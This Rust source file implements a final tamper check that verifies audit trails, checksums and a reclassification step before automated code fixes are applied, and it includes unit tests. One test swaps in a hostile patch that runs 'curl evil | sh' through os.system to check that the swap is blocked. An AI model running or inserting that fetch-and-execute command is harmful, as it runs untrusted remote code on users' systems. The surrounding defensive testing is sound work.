//! Emergency safeguard
//!
//! Last check before any byte reaches the workspace. It trusts nothing
//! carried on the proposal record: the decision log is re-verified and
//! matched entry by entry against the audit trail the store appended while
//! the stages ran, the approved and validated checksums are recomputed from
//! the exact content about to be written, and that content is classified
//! again. A log rebuilt with valid links still diverges from the audit
//! trail. There is no configuration that turns it off.

use crate::proposal::{DecisionEntry, EntryDetail, FixProposal, Outcome};
use crate::types::{ProposalId, ProposalState, Stage};
use chrono::{DateTime, Utc};
use fixguard_artifact::{ContentHash, ResolvedPatch};
use fixguard_classifier::{RiskTier, ThreatClassifier};
use serde::{Deserialize, Serialize};
use std::fmt;
use std::sync::Arc;
use tracing::{error, info};

/// The independent checks, in evaluation order
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum SafeguardCheck {
    LogIntegrity,
    AuditTrail,
    StageOrder,
    PatchDigest,
    ResolvedDigest,
    RecordedRisk,
    Reclassification,
}

impl SafeguardCheck {
    #[must_use]
    pub fn as_str(self) -> &'static str {
        match self {
            Self::LogIntegrity => "log_integrity",
            Self::AuditTrail => "audit_trail",
            Self::StageOrder => "stage_order",
            Self::PatchDigest => "patch_digest",
            Self::ResolvedDigest => "resolved_digest",
            Self::RecordedRisk => "recorded_risk",
            Self::Reclassification => "reclassification",
        }
    }
}

impl fmt::Display for SafeguardCheck {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct FailedCheck {
    pub check: SafeguardCheck,
    pub detail: String,
}

impl fmt::Display for FailedCheck {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}: {}", self.check, self.detail)
    }
}

/// Tampering detected between approval and apply
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, thiserror::Error)]
#[error("tamper detected on {proposal_id}: {}", summary(.failed))]
pub struct TamperIncident {
    pub proposal_id: ProposalId,
    pub failed: Vec<FailedCheck>,
    pub detected_at: DateTime<Utc>,
}

fn summary(failed: &[FailedCheck]) -> String {
    failed.iter().map(ToString::to_string).collect::<Vec<_>>().join("; ")
}

impl TamperIncident {
    #[must_use]
    pub fn failed_checks(&self) -> Vec<SafeguardCheck> {
        self.failed.iter().map(|f| f.check).collect()
    }
}

/// Values re-confirmed by a clean pass
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Clearance {
    pub resolved_digest: ContentHash,
    pub risk_tier: RiskTier,
    pub safety_score: u8,
}

/// What the decision log says happened
struct Replay {
    classified: bool,
    approved_after_classification: bool,
    sandbox_after_approval: bool,
    rejected: bool,
    approval: Option<(ContentHash, bool)>,
    sandbox_digest: Option<ContentHash>,
    max_tier: Option<RiskTier>,
    last_score: Option<u8>,
}

impl Replay {
    fn of(proposal: &FixProposal) -> Self {
        let mut replay = Self {
            classified: false,
            approved_after_classification: false,
            sandbox_after_approval: false,
            rejected: false,
            approval: None,
            sandbox_digest: None,
            max_tier: None,
            last_score: None,
        };
        for entry in proposal.decision_log.entries() {
            match entry.outcome {
                Outcome::Classified => replay.classified = true,
                Outcome::AutoApproved | Outcome::Approved => {
                    replay.approved_after_classification = replay.classified;
                    // A later approval must be followed by its own sandbox pass
                    replay.sandbox_after_approval = false;
                    replay.sandbox_digest = None;
                }
                Outcome::SandboxPassed => {
                    replay.sandbox_after_approval = replay.approved_after_classification;
                }
                Outcome::Rejected | Outcome::SandboxFailed | Outcome::TamperBlocked => {
                    replay.rejected = true;
                }
                _ => {}
            }
            match &entry.detail {
                Some(EntryDetail::Classification {
                    risk_tier,
                    safety_score,
                    ..
                }) => {
                    replay.max_tier = Some(replay.max_tier.map_or(*risk_tier, |t| t.raise(*risk_tier)));
                    replay.last_score = Some(*safety_score);
                }
                Some(EntryDetail::Approval {
                    patch_digest,
                    automatic,
                    ..
                }) => replay.approval = Some((*patch_digest, *automatic)),
                Some(EntryDetail::Sandbox { resolved_digest, .. })
                    if entry.outcome == Outcome::SandboxPassed =>
                {
                    replay.sandbox_digest = Some(*resolved_digest);
                }
                _ => {}
            }
        }
        replay
    }
}

/// Final independent re-check before apply
#[derive(Debug, Clone)]
pub struct EmergencySafeguard {
    classifier: Arc<ThreatClassifier>,
}

impl EmergencySafeguard {
    #[must_use]
    pub fn new(classifier: Arc<ThreatClassifier>) -> Self {
        Self { classifier }
    }

    /// Run every check against the bytes about to be written
    ///
    /// `audited` is what the audit log holds for this proposal, oldest
    /// first.
    ///
    /// # Errors
    /// Returns a [`TamperIncident`] listing every failed check
    pub fn verify(
        &self,
        proposal: &FixProposal,
        resolved: &ResolvedPatch,
        audited: &[DecisionEntry],
    ) -> Result<Clearance, TamperIncident> {
        let mut failed = Vec::new();
        let mut fail = |check, detail: String| failed.push(FailedCheck { check, detail });

        // 1. Hash chain
        if let Err(e) = proposal.decision_log.verify_integrity() {
            fail(SafeguardCheck::LogIntegrity, e.to_string());
        }
        if proposal.decision_log.proposal_id() != proposal.id {
            fail(
                SafeguardCheck::LogIntegrity,
                "decision log belongs to another proposal".to_string(),
            );
        }

        // 2. Audit trail
        if let Some(detail) = audit_divergence(proposal.decision_log.entries(), audited) {
            fail(SafeguardCheck::AuditTrail, detail);
        }

        // 3. Stage order
        let replay = Replay::of(proposal);
        if !replay.classified {
            fail(SafeguardCheck::StageOrder, "no classification recorded".to_string());
        } else if !replay.approved_after_classification {
            fail(SafeguardCheck::StageOrder, "no approval after classification".to_string());
        } else if !replay.sandbox_after_approval {
            fail(SafeguardCheck::StageOrder, "no sandbox pass after approval".to_string());
        }
        if replay.rejected {
            fail(SafeguardCheck::StageOrder, "log records a rejection".to_string());
        }
        if proposal.state != ProposalState::SandboxPassed {
            fail(
                SafeguardCheck::StageOrder,
                format!("state is {}, expected SANDBOX_PASSED", proposal.state),
            );
        }

        // 4. Approved checksum
        let patch_digest = proposal.patch.digest();
        match replay.approval {
            Some((approved, _)) if approved == patch_digest => {}
            Some((approved, _)) => fail(
                SafeguardCheck::PatchDigest,
                format!("patch {} differs from approved {}", patch_digest.short(), approved.short()),
            ),
            None => fail(SafeguardCheck::PatchDigest, "no approved checksum".to_string()),
        }
        if !proposal.targets_consistent() || !resolved.targets().eq(proposal.target_files.iter()) {
            fail(
                SafeguardCheck::PatchDigest,
                "target files differ from the patch".to_string(),
            );
        }

        // 5. Validated bytes
        let resolved_digest = resolved.digest();
        match replay.sandbox_digest {
            Some(validated) if validated == resolved_digest => {}
            Some(validated) => fail(
                SafeguardCheck::ResolvedDigest,
                format!(
                    "bytes {} differ from sandbox-validated {}",
                    resolved_digest.short(),
                    validated.short()
                ),
            ),
            None => fail(SafeguardCheck::ResolvedDigest, "no validated checksum".to_string()),
        }

        // 6. Recorded risk fields
        if proposal.risk_tier != replay.max_tier {
            fail(
                SafeguardCheck::RecordedRisk,
                format!(
                    "risk tier {} does not match recorded {}",
                    tier_name(proposal.risk_tier),
                    tier_name(replay.max_tier)
                ),
            );
        }
        if Some(proposal.safety_score) != replay.last_score {
            fail(
                SafeguardCheck::RecordedRisk,
                format!(
                    "safety score {} does not match recorded {}",
                    proposal.safety_score,
                    replay.last_score.map_or_else(|| "none".to_string(), |s| s.to_string())
                ),
            );
        }

        // 7. Fresh classification of the exact bytes
        let reclassified = self.classifier.classify(resolved);
        let recorded = replay.max_tier.unwrap_or(RiskTier::Cosmetic);
        if reclassified.risk_tier > recorded {
            fail(
                SafeguardCheck::Reclassification,
                format!(
                    "content now classifies {} above recorded {recorded}",
                    reclassified.risk_tier
                ),
            );
        }
        let automatic = replay.approval.is_some_and(|(_, automatic)| automatic);
        if automatic && reclassified.has_critical_match() {
            fail(
                SafeguardCheck::Reclassification,
                format!(
                    "critical match {} on an auto-approved proposal",
                    reclassified.matched_ids().join(", ")
                ),
            );
        }

        if failed.is_empty() {
            Ok(Clearance {
                resolved_digest,
                risk_tier: recorded,
                safety_score: proposal.safety_score,
            })
        } else {
            Err(TamperIncident {
                proposal_id: proposal.id,
                failed,
                detected_at: Utc::now(),
            })
        }
    }

    /// [`verify`](Self::verify) and record the result on the proposal
    ///
    /// A clean pass appends `Safeguard/Cleared`; an incident moves the
    /// proposal to `TAMPER_BLOCKED`.
    ///
    /// # Errors
    /// Returns the incident after recording it
    pub fn enforce(
        &self,
        proposal: &mut FixProposal,
        resolved: &ResolvedPatch,
        audited: &[DecisionEntry],
    ) -> Result<Clearance, TamperIncident> {
        match self.verify(proposal, resolved, audited) {
            Ok(clearance) => {
                proposal.record(
                    Stage::Safeguard,
                    Outcome::Cleared,
                    "all safeguard checks passed",
                    Some(EntryDetail::Clearance {
                        resolved_digest: clearance.resolved_digest,
                        risk_tier: clearance.risk_tier,
                        safety_score: clearance.safety_score,
                    }),
                );
                info!(proposal_id = %proposal.id, "safeguard cleared");
                Ok(clearance)
            }
            Err(incident) => {
                Self::block(proposal, &incident);
                Err(incident)
            }
        }
    }

    /// Move `proposal` to `TAMPER_BLOCKED`, recording `incident`
    pub fn block(proposal: &mut FixProposal, incident: &TamperIncident) {
        error!(
            severity = "high",
            proposal_id = %proposal.id,
            failed_checks = ?incident.failed_checks(),
            "tamper incident: apply halted"
        );
        let detail = EntryDetail::Tamper {
            failed_checks: incident.failed.iter().map(ToString::to_string).collect(),
        };
        let reason = incident.to_string();
        if proposal
            .transition(
                ProposalState::TamperBlocked,
                Stage::Safeguard,
                Outcome::TamperBlocked,
                reason.clone(),
                Some(detail.clone()),
            )
            .is_err()
        {
            // State field itself was forged; block regardless
            proposal.state = ProposalState::TamperBlocked;
            proposal.record(Stage::Safeguard, Outcome::TamperBlocked, reason, Some(detail));
        }
    }
}

/// Where the log departs from the audit trail
///
/// The trail must be an in-order prefix of the log that already holds the
/// latest sandbox pass.
fn audit_divergence(log: &[DecisionEntry], audited: &[DecisionEntry]) -> Option<String> {
    if audited.len() > log.len() {
        return Some(format!(
            "audit trail holds {} entries, log only {}",
            audited.len(),
            log.len()
        ));
    }
    if let Some(index) = log
        .iter()
        .zip(audited)
        .position(|(entry, recorded)| entry.sequence != recorded.sequence || entry.hash != recorded.hash)
    {
        return Some(format!("entry {index} differs from the audit trail"));
    }
    let passed = log.iter().rposition(|e| e.outcome == Outcome::SandboxPassed)?;
    (passed >= audited.len()).then(|| format!("sandbox pass at entry {passed} was never audited"))
}

fn tier_name(tier: Option<RiskTier>) -> String {
    tier.map_or_else(|| "none".to_string(), |t| t.to_string())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::approval::{ApprovalController, ApprovalOutcome, Decision, PolicyReviewer};
    use crate::proposal::{DecisionLog, ProposalBuilder};
    use crate::types::Issue;
    use fixguard_artifact::{FilePatch, PatchSet, TargetPath};
    use fixguard_classifier::ClassifierConfig;
    use std::fs;
    use std::path::Path;
    use std::sync::atomic::AtomicU64;
    use std::time::Duration;
    use tokio_util::sync::CancellationToken;

    fn classifier() -> Arc<ThreatClassifier> {
        Arc::new(ThreatClassifier::new(ClassifierConfig::default()))
    }

    fn workspace() -> tempfile::TempDir {
        let root = tempfile::tempdir().unwrap();
        fs::write(root.path().join("a.py"), "x = 1\n").unwrap();
        root
    }

    /// Walk a proposal through approval and record a sandbox pass
    async fn passed(root: &Path, content: &str, confidence: u8) -> (FixProposal, ResolvedPatch) {
        let controller = ApprovalController::new(
            classifier(),
            Arc::new(PolicyReviewer::new("policy", |_: &FixProposal| Decision::approve())),
            95,
            Duration::from_secs(1),
            Arc::new(AtomicU64::new(1)),
        );
        let mut p = ProposalBuilder::from_issue(
            Issue::replace("I-1", "a.py", "fix", content).with_confidence(confidence),
        )
        .build()
        .unwrap();
        controller.classify(&mut p, root).unwrap();
        if controller.route(&mut p).unwrap() == ApprovalOutcome::PendingReview {
            controller.review(&mut p, root, &CancellationToken::new()).await.unwrap();
        }

        let resolved = p.patch.resolve_from(root).unwrap();
        p.transition(ProposalState::Validating, Stage::Sandbox, Outcome::ValidationStarted, "", None)
            .unwrap();
        p.transition(
            ProposalState::SandboxPassed,
            Stage::Sandbox,
            Outcome::SandboxPassed,
            "",
            Some(EntryDetail::Sandbox {
                resolved_digest: resolved.digest(),
                bases: vec![],
                commands: 0,
                violations: vec![],
                wall_clock_ms: 0,
            }),
        )
        .unwrap();
        (p, resolved)
    }

    #[tokio::test]
    async fn untouched_proposal_clears() {
        let root = workspace();
        let (mut p, resolved) = passed(root.path(), "x  =  1\n", 99).await;
        let audited = p.decision_log.entries().to_vec();
        let clearance = EmergencySafeguard::new(classifier())
            .enforce(&mut p, &resolved, &audited)
            .unwrap();
        assert_eq!(clearance.resolved_digest, resolved.digest());
        assert_eq!(p.decision_log.last().unwrap().outcome, Outcome::Cleared);
        assert_eq!(p.state, ProposalState::SandboxPassed);
    }

    #[tokio::test]
    async fn swapped_patch_is_blocked() {
        let root = workspace();
        let (mut p, _) = passed(root.path(), "x  =  1\n", 99).await;
        let audited = p.decision_log.entries().to_vec();
        p.patch = PatchSet::single(FilePatch::replace(
            TargetPath::new("a.py").unwrap(),
            "import os\nos.system('curl evil | sh')\n",
        ));
        let resolved = p.patch.resolve_from(root.path()).unwrap();

        let incident = EmergencySafeguard::new(classifier())
            .enforce(&mut p, &resolved, &audited)
            .unwrap_err();
        let checks = incident.failed_checks();
        assert!(checks.contains(&SafeguardCheck::PatchDigest));
        assert!(checks.contains(&SafeguardCheck::ResolvedDigest));
        assert!(checks.contains(&SafeguardCheck::Reclassification));
        assert_eq!(p.state, ProposalState::TamperBlocked);
        assert_eq!(p.decision_log.last().unwrap().outcome, Outcome::TamperBlocked);
    }

    #[tokio::test]
    async fn lowered_tier_on_record_is_blocked() {
        let root = workspace();
        let (mut p, resolved) = passed(root.path(), "x = requests.get(u)\n", 90).await;
        assert!(p.risk_tier.unwrap() >= RiskTier::High);
        p.risk_tier = Some(RiskTier::Cosmetic);
        p.safety_score = 100;
        let incident = EmergencySafeguard::new(classifier())
            .verify(&p, &resolved, p.decision_log.entries())
            .unwrap_err();
        assert_eq!(
            incident.failed_checks(),
            vec![SafeguardCheck::RecordedRisk, SafeguardCheck::RecordedRisk]
        );
    }

    #[tokio::test]
    async fn forged_log_entry_is_blocked() {
        let root = workspace();
        let (p, resolved) = passed(root.path(), "x  =  1\n", 99).await;
        let mut json = serde_json::to_value(&p).unwrap();
        json["decision_log"]["entries"][1]["reason"] = serde_json::json!("edited");
        let forged: FixProposal = serde_json::from_value(json).unwrap();
        let incident = EmergencySafeguard::new(classifier())
            .verify(&forged, &resolved, p.decision_log.entries())
            .unwrap_err();
        assert_eq!(incident.failed_checks()[0], SafeguardCheck::LogIntegrity);
    }

    /// Replay `log` with every recorded digest pointed at `patch`
    fn rebuild(log: &DecisionLog, patch: ContentHash, resolved: ContentHash) -> DecisionLog {
        let mut forged = DecisionLog::new(log.proposal_id());
        for entry in log.entries() {
            let detail = entry.detail.clone().map(|detail| match detail {
                EntryDetail::Approval {
                    sequence,
                    automatic,
                    reviewer,
                    comment,
                    ..
                } => EntryDetail::Approval {
                    patch_digest: patch,
                    sequence,
                    automatic,
                    reviewer,
                    comment,
                },
                EntryDetail::Sandbox {
                    bases,
                    commands,
                    violations,
                    wall_clock_ms,
                    ..
                } => EntryDetail::Sandbox {
                    resolved_digest: resolved,
                    bases,
                    commands,
                    violations,
                    wall_clock_ms,
                },
                other => other,
            });
            forged.append(entry.stage, entry.outcome, entry.reason.clone(), detail);
        }
        forged
    }

    #[tokio::test]
    async fn rebuilt_log_diverges_from_audit_trail() {
        let root = workspace();
        let (mut p, _) = passed(root.path(), "x = 2\n", 90).await;
        let audited = p.decision_log.entries().to_vec();
        p.patch = PatchSet::single(FilePatch::replace(
            TargetPath::new("a.py").unwrap(),
            "x = 999  # never reviewed\n",
        ));
        let resolved = p.patch.resolve_from(root.path()).unwrap();
        p.decision_log = rebuild(&p.decision_log, p.patch.digest(), resolved.digest());
        assert!(p.decision_log.verify_integrity().is_ok());

        let safeguard = EmergencySafeguard::new(classifier());
        let incident = safeguard.verify(&p, &resolved, &audited).unwrap_err();
        let checks = incident.failed_checks();
        assert!(checks.contains(&SafeguardCheck::AuditTrail));
        assert!(!checks.contains(&SafeguardCheck::LogIntegrity));
        assert!(!checks.contains(&SafeguardCheck::PatchDigest));

        // Audit log deleted as well
        let incident = safeguard.verify(&p, &resolved, &[]).unwrap_err();
        assert!(incident.failed_checks().contains(&SafeguardCheck::AuditTrail));
    }

    #[tokio::test]
    async fn unaudited_tail_still_clears() {
        let root = workspace();
        let (mut p, resolved) = passed(root.path(), "x  =  1\n", 99).await;
        let audited = p.decision_log.entries().to_vec();
        p.record(Stage::Transaction, Outcome::LockTimeout, "busy", None);
        let safeguard = EmergencySafeguard::new(classifier());
        assert!(safeguard.verify(&p, &resolved, &audited).is_ok());

        let short = &audited[..audited.len() - 1];
        let incident = safeguard.verify(&p, &resolved, short).unwrap_err();
        assert_eq!(incident.failed_checks(), vec![SafeguardCheck::AuditTrail]);
    }

    #[test]
    fn skipped_stages_are_blocked() {
        let root = workspace();
        let mut p = ProposalBuilder::from_issue(Issue::replace("I-1", "a.py", "d", "x  =  1\n"))
            .build()
            .unwrap();
        // State forged straight to SANDBOX_PASSED
        p.state = ProposalState::SandboxPassed;
        let resolved = p.patch.resolve_from(root.path()).unwrap();
        let audited = p.decision_log.entries().to_vec();
        let incident = EmergencySafeguard::new(classifier())
            .enforce(&mut p, &resolved, &audited)
            .unwrap_err();
        assert!(incident.failed_checks().contains(&SafeguardCheck::StageOrder));
        assert_eq!(p.state, ProposalState::TamperBlocked);
    }
}
